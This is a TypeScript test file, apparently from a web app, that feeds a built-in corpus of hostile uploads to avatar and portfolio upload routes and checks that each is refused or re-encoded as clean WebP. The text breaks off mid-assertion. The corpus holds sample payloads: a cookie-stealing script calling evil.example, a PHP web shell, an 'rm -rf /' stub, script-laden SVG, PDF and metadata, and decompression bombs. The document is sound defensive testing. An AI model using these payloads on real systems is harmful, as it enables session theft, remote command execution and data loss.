import { existsSync, readdirSync } from 'node:fs';
import path from 'node:path';
import { deflateSync } from 'node:zlib';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IMAGE_LIMITS, thumbnailUrl, UPLOAD_TEXTS } from '#domain/uploads.ts';
import { providerProfiles, users } from '#server/db/schema/index.ts';
import { signAccessToken } from '#server/lib/tokens.ts';
import { buildTestApp, type LooseJson, type TestApp } from '#server/test/build-test-app.ts';
import { insertProvider } from '#server/test/factories.ts';
import {
  animatedWebp,
  compressiblePngBomb,
  crc32,
  dataUrl,
  jpegWithGps,
  photo,
  pngChunk,
  pngDeclaring,
  swatch,
} from '#server/test/test-images.ts';

/**
 * Hostile uploads: every file below is made here, sent to both upload routes as the web client
 * sends it, and must end in one of two ways. Either it is refused with a 4xx in the API's error shape
 * (docs/architecture.md, 'API conventions') and nothing is stored (no row changes, no new file), or
 * it is accepted and what a browser then fetches is a freshly encoded WebP: no EXIF, GPS, XMP, IPTC,
 * ICC or comments, no bytes after the picture, one frame, inside the size box, served as image/webp
 * with nosniff.
 */

let t: TestApp;
/** Small, real pictures the hostile files are built from. */
let base: { jpeg: Buffer; png: Buffer; webp: Buffer };

beforeAll(async () => {
  t = await buildTestApp();
  const [jpeg, png, webp] = await Promise.all([
    photo(320, 240, 'jpeg', 21),
    photo(320, 240, 'png', 22),
    photo(320, 240, 'webp', 23),
  ]);
  base = { jpeg, png, webp };
});
afterAll(() => t?.close());

/** What sharp reads from a file's header. */
type Metadata = Awaited<ReturnType<ReturnType<typeof sharp>['metadata']>>;

// ---------------------------------------------------------------------------------------------
// Builders for the corpus. Everything is bytes made by hand or by sharp; nothing is read from disk.

const HTML = '<html><body><script>alert("HOSTILE-HTML")</script></body></html>';
const JS = ';window.location="https://evil.example/?c="+document.cookie;//HOSTILE-JS';
const SCRIPT = '<script>alert("HOSTILE-META")</script>';
const SVG = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><rect width="64" height="64" fill="red"/><script>alert("HOSTILE-SVG")</script></svg>`;
const PHP = '<?php system($_GET["HOSTILE-PHP"]); ?>';
const latin1 = (text: string) => Buffer.from(text, 'latin1');

/** A stored (uncompressed) ZIP holding one file: enough for unzip, Java or Office to open it. */
function zipOf(name: string, content: string): Buffer {
  const data = latin1(content);
  const fileName = latin1(name);
  const crc = crc32(data);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4); // version needed
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(data.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(data.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localPart = Buffer.concat([local, fileName, data]);
  const centralPart = Buffer.concat([central, fileName]);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralPart.length, 12);
  end.writeUInt32LE(localPart.length, 16);
  return Buffer.concat([localPart, centralPart, end]);
}

/** Inserts a JPEG marker segment (APPn, COM) right after SOI. */
function withJpegSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const header = Buffer.from([0xff, marker, 0, 0]);
  header.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), header, data, jpeg.subarray(2)]);
}

/** The JPEG with its frame header (SOF0/SOF2) claiming width×height; the scan data stays small. */
function jpegDeclaring(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let i = 2; i < out.length - 9; i++) {
    if (out[i] === 0xff && (out[i + 1] === 0xc0 || out[i + 1] === 0xc2)) {
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
  }
  throw new Error('no SOF marker');
}

/** A simple lossy WebP (RIFF, 'VP8 ' first) whose key frame header claims width×height (14 bits each). */
function webpDeclaring(webp: Buffer, width: number, height: number): Buffer {
  if (webp.toString('latin1', 12, 16) !== 'VP8 ') throw new Error('not a simple lossy WebP');
  const out = Buffer.from(webp);
  out.writeUInt16LE(width & 0x3fff, 26);
  out.writeUInt16LE(height & 0x3fff, 28);
  return out;
}

/** A PNG with extra chunks inserted after IHDR (the first 33 bytes: signature + IHDR). */
const withPngChunks = (png: Buffer, ...chunks: Buffer[]) =>
  Buffer.concat([png.subarray(0, 33), ...chunks, png.subarray(33)]);

/** A 2×2 24-bit Windows bitmap. */
function bmp(): Buffer {
  const pixels = Buffer.alloc(16, 0x7f); // 2 rows of 6 bytes, each padded to 8
  const header = Buffer.alloc(54);
  header.write('BM', 0, 'latin1');
  header.writeUInt32LE(54 + pixels.length, 2);
  header.writeUInt32LE(54, 10);
  header.writeUInt32LE(40, 14);
  header.writeInt32LE(2, 18);
  header.writeInt32LE(2, 22);
  header.writeUInt16LE(1, 26);
  header.writeUInt16LE(24, 28);
  header.writeUInt32LE(pixels.length, 34);
  return Buffer.concat([header, pixels]);
}

/** An ISO-BMFF file of the given brand (HEIC), as far as any type sniffer looks: ftyp, meta, mdat. */
function isoBmff(brand: string): Buffer {
  const box = (type: string, data: Buffer) => {
    const size = Buffer.alloc(4);
    size.writeUInt32BE(data.length + 8);
    return Buffer.concat([size, latin1(type), data]);
  };
  return Buffer.concat([
    box('ftyp', latin1(`${brand}\0\0\0\0mif1${brand}`)),
    box('meta', Buffer.alloc(32)),
    box('mdat', latin1(HTML)),
  ]);
}

/** A 64-bit Linux ELF header followed by a script, the way a dropped binary would start. */
const elf = () =>
  Buffer.concat([
    Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 0x3e, 0]),
    Buffer.alloc(44),
    latin1('#!/bin/sh\nrm -rf / # HOSTILE-ELF'),
  ]);

const pdf = () =>
  latin1(
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert("HOSTILE-PDF"))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
  );

const colourCard = (channels: 3 | 4 = 3) =>
  sharp({
    create: { width: 96, height: 64, channels, background: { r: 30, g: 160, b: 90, alpha: 1 } },
  });

/** An XMP packet whose description is a script. */
const XMP = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:description>${SCRIPT} HOSTILE-XMP</dc:description></rdf:Description></rdf:RDF></x:xmpmeta>`;

/** EXIF with camera, owner and GPS: what a phone writes and what must never leave the server. */
const EXIF = {
  IFD0: { Make: 'HOSTILE-EXIF-MAKE', Model: 'Pocket 12', Artist: SCRIPT },
  IFD3: {
    GPSLatitudeRef: 'N',
    GPSLatitude: '48/1 51/1 30/1',
    GPSLongitudeRef: 'E',
    GPSLongitude: '2/1 17/1 40/1',
  },
};

/** An IPTC caption inside a Photoshop APP13 segment. */
function iptcSegment(caption: string): Buffer {
  const text = latin1(caption);
  const dataset = Buffer.concat([
    Buffer.from([0x1c, 0x02, 0x78, text.length >> 8, text.length & 0xff]),
    text,
  ]);
  const padded = dataset.length % 2 ? Buffer.concat([dataset, Buffer.alloc(1)]) : dataset;
  const size = Buffer.alloc(4);
  size.writeUInt32BE(dataset.length);
  return Buffer.concat([
    latin1('Photoshop 3.0\0'),
    latin1('8BIM'),
    Buffer.from([0x04, 0x04, 0, 0]),
    size,
    padded,
  ]);
}

/** An APP2 ICC_PROFILE segment whose "profile" is a header and then a script instead of tags. */
function bogusIccSegment(): Buffer {
  const profile = Buffer.alloc(128);
  const payload = latin1(`${SCRIPT} HOSTILE-ICC`);
  profile.writeUInt32BE(128 + 4 + payload.length, 0);
  profile.write('mntrRGB XYZ ', 12, 'latin1');
  profile.write('acsp', 36, 'latin1');
  return Buffer.concat([latin1('ICC_PROFILE\0'), Buffer.from([1, 1]), profile, Buffer.alloc(4), payload]);
}

/** A WebP with one more chunk inside its RIFF container (the RIFF size is fixed up to include it). */
function withRiffChunk(webp: Buffer, type: string, data: Buffer): Buffer {
  const header = Buffer.alloc(8);
  header.write(type, 0, 'latin1');
  header.writeUInt32LE(data.length, 4);
  const padded = data.length % 2 ? Buffer.concat([data, Buffer.alloc(1)]) : data;
  const out = Buffer.concat([webp, header, padded]);
  out.writeUInt32LE(out.length - 8, 4);
  return out;
}

// ---------------------------------------------------------------------------------------------
// The corpus.

interface Rejection {
  status: number;
  error: string;
  message: string;
}
const WRONG_TYPE: Rejection = {
  status: 415,
  error: 'UNSUPPORTED_MEDIA_TYPE',
  message: UPLOAD_TEXTS.wrongType,
};
const UNREADABLE: Rejection = { status: 400, error: 'VALIDATION_ERROR', message: UPLOAD_TEXTS.unreadable };
const NOT_IMAGE: Rejection = { status: 400, error: 'VALIDATION_ERROR', message: UPLOAD_TEXTS.notImage };
const TOO_LARGE: Rejection = { status: 413, error: 'PAYLOAD_TOO_LARGE', message: UPLOAD_TEXTS.tooLarge };
const TOO_MANY_PIXELS: Rejection = {
  status: 413,
  error: 'PAYLOAD_TOO_LARGE',
  message: UPLOAD_TEXTS.tooManyPixels,
};

type MetaKey = 'exif' | 'xmp' | 'icc' | 'iptc' | 'comments';

interface HostileFile {
  name: string;
  expected: 'reject' | 'reencode';
  /** The bytes, sent as a data URL declaring `declared` (image/jpeg unless said). */
  bytes?: () => Buffer | Promise<Buffer>;
  declared?: string;
  /** The `file` field exactly as sent, for payloads that are not a well-formed data URL. */
  field?: () => string;
  /** For 'reject': the answer expected. */
  rejection?: Rejection;
  /** Text that is in the input and must not be anywhere in a stored output. */
  markers?: string[];
  /** Metadata sharp finds in the input (checked, so the case really carries it). */
  inputHas?: MetaKey[];
  /** Extra facts about a re-encoded file: the served main image's metadata, and the input's. */
  check?: (meta: Metadata, input: Metadata) => void;
}

const reject = (rejection: Rejection, file: Omit<HostileFile, 'expected' | 'rejection'>): HostileFile => ({
  ...file,
  expected: 'reject',
  rejection,
});
const reencode = (file: Omit<HostileFile, 'expected'>): HostileFile => ({ ...file, expected: 'reencode' });

const CORPUS: HostileFile[] = [
  // Polyglots: a real picture with something else glued on, or something else wearing image magic.
  reencode({
    name: 'JPEG + HTML page appended after EOI',
    bytes: () => Buffer.concat([base.jpeg, latin1(HTML)]),
    markers: ['HOSTILE-HTML', '<script'],
  }),
  reencode({
    name: 'JPEG + JavaScript appended after EOI',
    bytes: () => Buffer.concat([base.jpeg, latin1(JS)]),
    markers: ['HOSTILE-JS', 'document.cookie'],
  }),
  reencode({
    name: 'JPEG + ZIP appended (JAR/JPEG polyglot)',
    bytes: () => Buffer.concat([base.jpeg, zipOf('META-INF/x.html', HTML)]),
    markers: ['HOSTILE-HTML', 'PK\u0003\u0004'],
  }),
  reencode({
    name: 'PNG + ZIP after IEND',
    declared: 'image/png',
    bytes: () => Buffer.concat([base.png, zipOf('index.html', HTML)]),
    markers: ['HOSTILE-HTML', 'PK\u0003\u0004', 'index.html'],
  }),
  reencode({
    name: 'PNG + HTML after IEND',
    declared: 'image/png',
    bytes: () => Buffer.concat([base.png, latin1(HTML)]),
    markers: ['HOSTILE-HTML', '<script'],
  }),
  reencode({
    name: 'WebP + HTML after the RIFF container',
    declared: 'image/webp',
    bytes: () => Buffer.concat([base.webp, latin1(HTML)]),
    markers: ['HOSTILE-HTML'],
  }),
  reject(WRONG_TYPE, {
    name: 'GIFAR: GIF + ZIP',
    declared: 'image/gif',
    bytes: async () =>
      Buffer.concat([await swatch(16, 16, 'gif', { r: 1, g: 2, b: 3 }), zipOf('a.class', JS)]),
  }),
  reject(UNREADABLE, {
    name: 'HTML page that starts with JPEG magic',
    bytes: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), latin1(`<!--${HTML}-->${HTML}`)]),
  }),
  reject(UNREADABLE, {
    name: 'HTML page that starts with the PNG signature',
    declared: 'image/png',
    bytes: () => Buffer.concat([base.png.subarray(0, 8), latin1(HTML)]),
  }),
  reject(UNREADABLE, {
    name: 'HTML page inside a RIFF/WEBP header',
    declared: 'image/webp',
    bytes: () => Buffer.concat([latin1('RIFF\u0040\u0000\u0000\u0000WEBP'), latin1(HTML)]),
  }),

  // Scripts as images.
  reject(WRONG_TYPE, {
    name: 'SVG with <script> as image/svg+xml',
    declared: 'image/svg+xml',
    bytes: () => latin1(SVG),
  }),
  reject(WRONG_TYPE, {
    name: 'SVG with <script> declared image/png',
    declared: 'image/png',
    bytes: () => latin1(SVG),
  }),
  reject(WRONG_TYPE, { name: 'SVG with <script> declared image/jpeg', bytes: () => latin1(SVG) }),
  reject(WRONG_TYPE, { name: 'PHP web shell declared image/jpeg', bytes: () => latin1(PHP) }),
  reject(WRONG_TYPE, {
    name: 'GIF89a; header + PHP',
    declared: 'image/gif',
    bytes: () => latin1(`GIF89a;${PHP}`),
  }),

  // Decompression bombs: tiny on disk, enormous once decoded.
  reject(TOO_MANY_PIXELS, {
    name: 'PNG declaring 30000×30000',
    declared: 'image/png',
    bytes: () => pngDeclaring(30_000, 30_000),
  }),
  reject(TOO_MANY_PIXELS, {
    name: 'PNG declaring 1×60,000,000 (a strip)',
    declared: 'image/png',
    bytes: () => pngDeclaring(1, 60_000_000),
  }),
  reject(TOO_MANY_PIXELS, {
    name: 'complete 8000×8000 PNG of 60 KB',
    declared: 'image/png',
    bytes: () => compressiblePngBomb(),
  }),
  reject(TOO_MANY_PIXELS, {
    name: 'JPEG declaring 65500×65500',
    bytes: () => jpegDeclaring(base.jpeg, 65_500, 65_500),
  }),
  reject(TOO_MANY_PIXELS, {
    name: 'WebP declaring 16383×16383',
    declared: 'image/webp',
    bytes: () => webpDeclaring(base.webp, 16_383, 16_383),
  }),

  // Truncated files.
  reject(UNREADABLE, { name: 'JPEG cut in half', bytes: () => base.jpeg.subarray(0, base.jpeg.length >> 1) }),
  reject(UNREADABLE, {
    name: 'PNG cut in half',
    declared: 'image/png',
    bytes: () => base.png.subarray(0, base.png.length >> 1),
  }),
  reject(UNREADABLE, {
    name: 'WebP cut in half',
    declared: 'image/webp',
    bytes: () => base.webp.subarray(0, base.webp.length >> 1),
  }),
  reject(UNREADABLE, { name: 'JPEG magic alone (3 bytes)', bytes: () => Buffer.from([0xff, 0xd8, 0xff]) }),

  // Other formats wearing an image/jpeg label.
  reject(WRONG_TYPE, { name: 'PDF with JavaScript', bytes: pdf }),
  reject(WRONG_TYPE, { name: 'ELF executable', bytes: elf }),
  reject(WRONG_TYPE, { name: 'HTML page', bytes: () => latin1(HTML) }),
  reject(WRONG_TYPE, { name: 'GIF', bytes: () => swatch(32, 32, 'gif', { r: 200, g: 0, b: 0 }) }),
  reject(WRONG_TYPE, { name: 'TIFF', bytes: () => colourCard().tiff().toBuffer() }),
  reject(WRONG_TYPE, { name: 'BMP', bytes: bmp }),
  reject(WRONG_TYPE, { name: 'AVIF', bytes: () => colourCard().avif({ effort: 0 }).toBuffer() }),
  reject(WRONG_TYPE, { name: 'HEIC (ftyp heic)', bytes: () => isoBmff('heic') }),
  reject(WRONG_TYPE, {
    name: 'animated GIF',
    declared: 'image/gif',
    bytes: async () =>
      sharp(
        [
          await swatch(20, 20, 'png', { r: 255, g: 0, b: 0 }),
          await swatch(20, 20, 'png', { r: 0, g: 0, b: 255 }),
        ],
        {
          join: { animated: true },
        },
      )
        .gif()
        .toBuffer(),
  }),

  // Sizes and encodings at the edges.
  reject(UNREADABLE, { name: 'zero bytes', bytes: () => Buffer.alloc(0) }),
  reject(WRONG_TYPE, { name: 'one byte (0xFF)', bytes: () => Buffer.from([0xff]) }),
  reject(UNREADABLE, {
    name: 'invalid base64 payload',
    field: () => `data:image/jpeg;base64,${base.jpeg.toString('base64').slice(0, 40)}<script>`,
  }),
  reject(NOT_IMAGE, {
    name: 'javascript: URL instead of a data URL',
    field: () => 'javascript:alert(document.cookie)',
  }),
  reject(NOT_IMAGE, { name: 'data URL without base64 (text/html)', field: () => `data:text/html,${HTML}` }),
  reencode({
    name: 'real JPEG in a data URL declaring text/html',
    declared: 'text/html',
    bytes: () => base.jpeg,
  }),
  reject(TOO_LARGE, {
    name: 'JPEG padded to 10 MB + 1 byte',
    bytes: () => Buffer.concat([base.jpeg, Buffer.alloc(IMAGE_LIMITS.maxBytes + 1 - base.jpeg.length, 0x41)]),
  }),
  reject(TOO_LARGE, {
    name: 'PNG padded to 10.5 MB',
    declared: 'image/png',
    bytes: () => Buffer.concat([base.png, Buffer.alloc(10.5 * 1024 * 1024 - base.png.length, 0x41)]),
  }),

  // Metadata that must not survive.
  reencode({
    name: 'phone JPEG: EXIF, GPS, P3 ICC, orientation 6',
    bytes: () => jpegWithGps(200, 100),
    markers: ['PhoneMaker', 'Secret Studio'],
    inputHas: ['exif', 'icc'],
    check: (out) => expect([out.width, out.height]).toEqual([100, 200]),
  }),
  reencode({
    name: 'JPEG with EXIF Artist <script> and GPS',
    bytes: () => colourCard().jpeg().withExif(EXIF).toBuffer(),
    markers: ['HOSTILE-EXIF-MAKE', 'HOSTILE-META'],
    inputHas: ['exif'],
  }),
  reencode({
    name: 'JPEG with an XMP packet holding <script>',
    bytes: () => colourCard().jpeg().withXmp(XMP).toBuffer(),
    markers: ['HOSTILE-XMP', 'xmpmeta'],
    inputHas: ['xmp'],
  }),
  reencode({
    name: 'JPEG with a COM comment holding <script>',
    bytes: () => withJpegSegment(base.jpeg, 0xfe, latin1(`${SCRIPT} HOSTILE-COM`)),
    markers: ['HOSTILE-COM'],
  }),
  reencode({
    name: 'JPEG with an IPTC caption holding <script>',
    bytes: () => withJpegSegment(base.jpeg, 0xed, iptcSegment(`${SCRIPT} HOSTILE-IPTC`)),
    markers: ['HOSTILE-IPTC', 'Photoshop 3.0'],
    inputHas: ['iptc'],
  }),
  reencode({
    name: 'JPEG with a P3 ICC profile',
    bytes: () => colourCard().jpeg().withIccProfile('p3').toBuffer(),
    markers: ['ICC_PROFILE'],
    inputHas: ['icc'],
  }),
  reencode({
    name: 'JPEG with a malformed ICC profile holding <script>',
    bytes: () => withJpegSegment(base.jpeg, 0xe2, bogusIccSegment()),
    markers: ['HOSTILE-ICC', 'ICC_PROFILE'],
  }),
  reencode({
    name: 'JPEG with an orientation tag (8)',
    bytes: () => colourCard().jpeg().withMetadata({ orientation: 8 }).toBuffer(),
    inputHas: ['exif'],
    check: (out) => expect([out.width, out.height]).toEqual([64, 96]),
  }),
  reencode({
    name: 'CMYK JPEG',
    bytes: () => colourCard().toColourspace('cmyk').jpeg().toBuffer(),
    check: (out, input) => {
      expect(input.space).toBe('cmyk');
      expect(out.space).toBe('srgb');
    },
  }),
  reencode({
    name: 'PNG with tEXt and iTXt chunks holding scripts',
    declared: 'image/png',
    bytes: () =>
      withPngChunks(
        base.png,
        pngChunk('tEXt', latin1(`Comment\0${SCRIPT} HOSTILE-TEXT`)),
        pngChunk('iTXt', latin1(`XML:com.adobe.xmp\0\0\0\0\0${XMP}`)),
      ),
    markers: ['HOSTILE-TEXT', 'HOSTILE-XMP'],
    inputHas: ['xmp', 'comments'],
  }),
  reencode({
    name: 'PNG with a private ancillary chunk (htMl) holding a page',
    declared: 'image/png',
    bytes: () => withPngChunks(base.png, pngChunk('htMl', latin1(HTML))),
    markers: ['HOSTILE-HTML', 'htMl'],
  }),
  reject(UNREADABLE, {
    name: 'PNG with an unknown critical chunk (HTML) holding a page',
    declared: 'image/png',
    bytes: () => withPngChunks(base.png, pngChunk('HTML', latin1(HTML))),
  }),
  reencode({
    name: 'PNG with a zTXt chunk inflating to 9 MB',
    declared: 'image/png',
    bytes: () =>
      withPngChunks(
        base.png,
        pngChunk(
          'zTXt',
          Buffer.concat([latin1('Comment\0\0'), deflateSync(Buffer.alloc(9 * 1024 * 1024, 0x41))]),
        ),
      ),
    markers: ['zTXt'],
  }),
  reencode({
    name: 'PNG with eXIf GPS',
    declared: 'image/png',
    bytes: () => colourCard().png().withExif(EXIF).toBuffer(),
    markers: ['HOSTILE-EXIF-MAKE'],
    inputHas: ['exif'],
  }),
  reencode({
    name: '16-bit PNG',
    declared: 'image/png',
    bytes: () => colourCard().toColourspace('rgb16').png().toBuffer(),
    check: (_out, input) => expect(input.depth).toBe('ushort'),
  }),
  reencode({
    name: 'PNG 20000×2 (extreme aspect ratio)',
    declared: 'image/png',
    bytes: () =>
      sharp({ create: { width: 20_000, height: 2, channels: 3, background: '#336699' } })
        .png()
        .toBuffer(),
  }),
  reencode({
    name: 'WebP with EXIF and XMP chunks',
    declared: 'image/webp',
    bytes: () => colourCard(4).webp().withExif(EXIF).withXmp(XMP).toBuffer(),
    markers: ['HOSTILE-EXIF-MAKE', 'HOSTILE-XMP', 'EXIF', 'XMP '],
    inputHas: ['exif', 'xmp'],
  }),
  reencode({
    name: 'WebP with an unknown RIFF chunk holding a page',
    declared: 'image/webp',
    bytes: async () => withRiffChunk(await colourCard(4).webp().toBuffer(), 'HTML', latin1(HTML)),
    markers: ['HOSTILE-HTML'],
  }),
  reencode({
    name: 'animated WebP (2 frames)',
    declared: 'image/webp',
    bytes: animatedWebp,
    markers: ['ANIM', 'ANMF'],
    check: (_out, input) => expect(input.pages).toBe(2),
  }),
];

// ---------------------------------------------------------------------------------------------
// Running one file through both routes and measuring what happened.

type Route = 'avatar' | 'portfolio';

/** What a browser gets back for one stored URL, and what is inside it. */
interface Served {
  url: string;
  status: number;
  contentType: unknown;
  nosniff: unknown;
  format: string | undefined;
  width: number;
  height: number;
  pages: number;
  space: string | undefined;
  /** Metadata sharp still finds in the output: must be empty. */
  keptMetadata: MetaKey[];
  /** RIFF chunk types, in order. */
  chunks: string[];
  /** Bytes after the RIFF container. */
  trailing: number;
  /** Input markers found in the output bytes. */
  markersFound: string[];
  decodes: boolean;
  meta: Metadata;
}

interface Attempt {
  route: Route;
  status: number;
  body: LooseJson;
  /** Files that appeared under DATA_DIR/uploads, relative. */
  newFiles: string[];
  /** The user's avatar_url or portfolio_images after the request (before: null / []). */
  stored: unknown;
  served: Served[];
}

interface Outcome {
  entry: HostileFile;
  inputMeta: Metadata | null;
  attempts: Attempt[];
}

const uploadsDir = () => path.join(t.config.dataDir, 'uploads');
function allStoredFiles(): string[] {
  const dir = uploadsDir();
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile())
    .map((d) => path.relative(dir, path.join(d.parentPath, d.name)))
    .sort();
}

/** A provider straight from the database with a valid access token: a clean slate for each file. */
async function freshProvider() {
  const row = await insertProvider(t.db);
  const { token } = await signAccessToken(t.app.ctx.secret, row.id, new Date());
  return { id: row.id, token };
}

async function storedFor(route: Route, userId: string): Promise<unknown> {
  if (route === 'avatar') {
    const [row] = await t.db.select({ url: users.avatarUrl }).from(users).where(eq(users.id, userId));
    return row!.url;
  }
  const [row] = await t.db
    .select({ images: providerProfiles.portfolioImages })
    .from(providerProfiles)
    .where(eq(providerProfiles.userId, userId));
  return row!.images;
}

function riffChunks(bytes: Buffer): { chunks: string[]; trailing: number } {
  if (bytes.toString('latin1', 0, 4) !== 'RIFF' || bytes.toString('latin1', 8, 12) !== 'WEBP') {
    return { chunks: [], trailing: bytes.length };
  }
  const end = 8 + bytes.readUInt32LE(4);
  const chunks: string[] = [];
  for (let at = 12; at + 8 <= Math.min(end, bytes.length); ) {
    chunks.push(bytes.toString('latin1', at, at + 4));
    const size = bytes.readUInt32LE(at + 4);
    at += 8 + size + (size % 2);
  }
  return { chunks, trailing: bytes.length - end };
}

async function fetchServed(url: string, markers: string[]): Promise<Served> {
  const res = await t.app.inject({ method: 'GET', url });
  const bytes = res.rawPayload;
  const meta = await sharp(bytes)
    .metadata()
    .catch(() => ({}) as Metadata);
  const decodes = await sharp(bytes, { failOn: 'warning' })
    .raw()
    .toBuffer()
    .then(
      () => true,
      () => false,
    );
  const keys: MetaKey[] = ['exif', 'xmp', 'icc', 'iptc', 'comments'];
  return {
    url,
    status: res.statusCode,
    contentType: res.headers['content-type'],
    nosniff: res.headers['x-content-type-options'],
    format: meta.format,
    width: meta.width ?? 0,
    height: meta.height ?? 0,
    pages: meta.pages ?? 1,
    space: meta.space,
    keptMetadata: keys.filter((k) => meta[k] !== undefined),
    ...riffChunks(bytes),
    markersFound: markers.filter((m) => bytes.includes(latin1(m))),
    decodes,
    meta,
  };
}

async function attempt(route: Route, entry: HostileFile, field: string): Promise<Attempt> {
  const me = await freshProvider();
  const before = allStoredFiles();
  const res = await t.post(`/api/upload/${route}`, { file: field, userId: me.id }, { token: me.token });
  const newFiles = allStoredFiles().filter((f) => !before.includes(f));
  const stored = await storedFor(route, me.id);
  const served: Served[] = [];
  if (res.status === 200) {
    const url: string = route === 'avatar' ? res.body.avatarUrl : res.body.portfolioImages[0];
    for (const u of [url, thumbnailUrl(url)]) served.push(await fetchServed(u, entry.markers ?? []));
  }
  return { route, status: res.status, body: res.body, newFiles, stored, served };
}

/** Each file is run once (memoised), whether by its own test or by the summary. */
const outcomes = new Map<string, Promise<Outcome>>();
function run(entry: HostileFile): Promise<Outcome> {
  let outcome = outcomes.get(entry.name);
  if (!outcome) {
    outcome = (async () => {
      const bytes = entry.bytes ? await entry.bytes() : null;
      const field = entry.field ? entry.field() : dataUrl(bytes!, entry.declared ?? 'image/jpeg');
      const inputMeta = bytes?.length
        ? await sharp(bytes)
            .metadata()
            .catch(() => null)
        : null;
      if (bytes) for (const m of entry.markers ?? []) expect(bytes.includes(latin1(m)), m).toBe(true);
      const attempts = [await attempt('avatar', entry, field), await attempt('portfolio', entry, field)];
      return { entry, inputMeta, attempts };
    })();
    outcomes.set(entry.name, outcome);
  }
  return outcome;
}

const BOX: Record<Route, { width: number; height: number }> = {
  avatar: IMAGE_LIMITS.avatar,
  portfolio: IMAGE_LIMITS.portfolio,
};
const ALLOWED_CHUNKS = new Set(['VP8 ', 'VP8L', 'VP8X', 'ALPH']);

/** The same rules as the assertions below, as a yes/no for the summary. */
function isSafe(a: Attempt): boolean {
  if (a.status >= 400 && a.status < 500) {
    return (
      a.body?.success === false &&
      a.newFiles.length === 0 &&
      (a.stored === null || (Array.isArray(a.stored) && a.stored.length === 0))
    );
  }
  if (a.status !== 200 || a.served.length !== 2 || a.newFiles.length !== 2) return false;
  return a.served.every(
    (s, i) =>
      s.status === 200 &&
      s.contentType === 'image/webp' &&
      s.nosniff === 'nosniff' &&
      s.format === 'webp' &&
      s.decodes &&
      s.keptMetadata.length === 0 &&
      s.pages === 1 &&
      s.trailing === 0 &&
      s.chunks.every((c) => ALLOWED_CHUNKS.has(c)) &&
      s.markersFound.length === 0 &&
      s.width <= (i === 0 ? BOX[a.route] : IMAGE_LIMITS.thumb).width &&
      s.height <= (i === 0 ? BOX[a.route] : IMAGE_LIMITS.thumb).height,
  );
}

// ---------------------------------------------------------------------------------------------

describe('hostile uploads corpus', () => {
  it('holds at least 30 hostile files, each with a unique name', () => {
    expect(CORPUS.length).toBeGreaterThanOrEqual(30);
    expect(new Set(CORPUS.map((e) => e.name)).size).toBe(CORPUS.length);
  });

  describe.each(CORPUS.map((entry) => [entry.name, entry] as const))('%s', (_name, entry) => {
    if (entry.expected === 'reject') {
      it(`→ ${entry.rejection!.status} ${entry.rejection!.error} on both routes; nothing stored`, async () => {
        const { attempts } = await run(entry);
        for (const a of attempts) {
          expect(a.status, a.route).toBe(entry.rejection!.status);
          expect(a.body, a.route).toMatchObject({
            success: false,
            error: entry.rejection!.error,
            message: entry.rejection!.message,
          });
          expect(Object.keys(a.body).sort()).toEqual(
            a.body.issues ? ['error', 'issues', 'message', 'success'] : ['error', 'message', 'success'],
          );
          if (a.body.issues) expect(a.body.issues[0].path).toBe('file');
          expect(a.newFiles, a.route).toEqual([]);
          expect(a.stored, a.route).toEqual(a.route === 'avatar' ? null : []);
          expect(isSafe(a)).toBe(true);
        }
      });
    } else {
      it('→ 200 on both routes; what is served is a clean, re-encoded WebP', async () => {
        const { attempts, inputMeta } = await run(entry);
        for (const key of entry.inputHas ?? []) expect(inputMeta?.[key], `input ${key}`).toBeDefined();
        for (const a of attempts) {
          expect(a.status, `${a.route}: ${JSON.stringify(a.body)}`).toBe(200);
          const url = a.served[0]!.url;
          expect(a.stored).toEqual(a.route === 'avatar' ? url : [url]);
          expect(url).toMatch(new RegExp(`^/uploads/${a.route}/[0-9a-f-]{36}/[0-9a-f]{64}\\.webp$`));
          expect(a.newFiles.sort()).toEqual(a.served.map((s) => s.url.slice('/uploads/'.length)).sort());
          a.served.forEach((s, i) => {
            const box = i === 0 ? BOX[a.route] : IMAGE_LIMITS.thumb;
            expect(s.status).toBe(200);
            expect(s.contentType).toBe('image/webp');
            expect(s.nosniff).toBe('nosniff');
            expect(s.format).toBe('webp');
            expect(s.decodes).toBe(true);
            expect(s.keptMetadata, s.url).toEqual([]);
            expect(s.meta.exif).toBeUndefined();
            expect(s.meta.xmp).toBeUndefined();
            expect(s.meta.iptc).toBeUndefined();
            expect(s.meta.icc).toBeUndefined();
            expect(s.meta.comments).toBeUndefined();
            expect(s.pages).toBe(1);
            expect(s.trailing).toBe(0);
            expect(s.chunks.length).toBeGreaterThan(0);
            for (const chunk of s.chunks) expect(ALLOWED_CHUNKS.has(chunk), chunk).toBe(true);
            expect(s.markersFound).toEqual([]);
            expect(s.width).toBeGreaterThan(0);
            expect(s.width).toBeLessThanOrEqual(box.width);
